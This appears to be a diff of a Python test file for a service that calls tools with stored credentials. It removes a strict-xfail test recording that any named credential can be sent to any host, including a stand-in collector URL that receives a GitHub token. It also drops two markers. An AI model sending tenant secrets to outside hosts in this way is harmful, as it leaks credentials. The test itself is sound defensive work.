@@ -46,11 +46,6 @@ from services.integrator.credentials import CredentialBroker
 from services.integrator.secrets import LocalSecretBackend
 from tests.unit.test_server import as_caller, settings, token
 
-# ToolCaller builds its backoff with wait_exponential_jitter(initial=...), which tenacity 9.2 deprecates in favour
-# of multiplier=; with warnings as errors no ToolCaller could be made. Ignored here, by its message only, until the
-# code moves to multiplier=.
-pytestmark = pytest.mark.filterwarnings("ignore:The 'initial' parameter is deprecated:DeprecationWarning")
-
 CAP = 0.05  # seconds: the Retry-After cap of the default caller, so that every retry here is quick
 HANG = "hang"  # in a script: ExecuteTool never answers
 SECRET = "key-123-secret"
@@ -282,30 +277,6 @@ async def test_http_request_gets_the_credential_its_arguments_name_and_none_othe
     assert [e["credential"] for e in await rig.events()] == ["github", "", ""]
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="API.md: a credential goes 'from http_request, only to one of its hosts (none listed: http_request may "
-    "not use it)'. Nothing checks the hosts: the ToolCaller injects any credential an http_request call names, "
-    "whatever its URL, so a plan or an LLM can send a tenant's secret to any public host.",
-)
-@pytest.mark.parametrize(
-    ("hosts", "url"),
-    [([], "https://api.github.com/user"), (["api.github.com"], "https://collector.example.net/?from=github")],
-    ids=["no-hosts", "another-host"],
-)
-async def test_http_request_may_use_a_credential_only_for_one_of_its_hosts(
-    rig: Rig, hosts: list[str], url: str
-) -> None:
-    caller_as()
-    await store_api_key(rig, "github", header="Authorization", prefix="Bearer ", hosts=hosts)
-    rig.service.tools["http_request"] = tool_pb2.Tool(tool_id="http_request", type=tool_pb2.TOOL_TYPE_BUILTIN)
-    try:
-        await rig.caller().invoke("http_request", f'{{"url": "{url}", "credential": "github"}}'.encode())
-    except AltanError:
-        pass  # refusing the call is one way not to send the secret
-    assert [a.credential for a in rig.service.attempts if a.credential is not None] == []
-
-
 async def test_a_credential_that_is_not_stored_fails_the_call_before_it_runs(rig: Rig) -> None:
     caller_as()
     rig.service.tools["crm"] = custom("crm", common_pb2.AUTH_TYPE_API_KEY, credential="crm-key")
@@ -447,12 +418,6 @@ async def test_a_tool_service_that_does_not_answer_ends_the_call_at_the_deadline
     assert (await rig.events())[0]["outcome"] == "error"
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="A Retry-After longer than what is left of the deadline is still waited in full (tenacity's "
-    "stop_after_delay looks only at the time already spent): the call overruns its deadline and then fails with "
-    "Unavailable 'did not finish within', instead of letting the third party's last answer stand within it.",
-)
 async def test_a_retry_after_beyond_the_deadline_is_not_waited(rig: Rig) -> None:
     caller_as()
     rig.service.tools["crm"] = custom("crm")
